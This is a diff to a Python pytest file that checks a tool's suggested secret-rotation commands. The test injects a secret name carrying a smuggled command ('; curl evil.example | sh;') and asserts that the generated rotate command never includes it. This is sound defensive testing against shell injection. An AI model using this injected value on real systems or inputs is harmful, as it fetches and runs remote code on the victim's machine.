@@ -3,6 +3,7 @@ command and the evidence it rests on; and no finding asks for a fix remediate re
 
 from __future__ import annotations
 
+import dataclasses
 from pathlib import Path
 
 import pytest
@@ -147,7 +148,8 @@ def test_a_secret_name_unfit_for_a_shell_never_reaches_the_rotate_command(tmp_pa
     hostile = 'FLY_TOKEN"; curl evil.example | sh; "'
     fly_named = e.secrets["name"].str.contains("FLY.*(?:TOKEN|KEY)", case=False, na=False, regex=True)
     assert fly_named.sum() == 1  # the only secret named like a Fly token, which the command would name
-    e.secrets = e.secrets.assign(name=e.secrets["name"].where(~fly_named, hostile))
+    renamed = e.secrets.assign(name=e.secrets["name"].where(~fly_named, hostile))
+    e = dataclasses.replace(e, by_source={**e.by_source, "secrets": renamed})
     steps = next_steps(e, inv.root, inv.findings, release_health(e))
     commands = [c for s in steps if s.code == "ROTATE_FLY_TOKEN" for c in s.commands]
     assert commands and not any("evil.example" in c or '";' in c for c in commands), commands
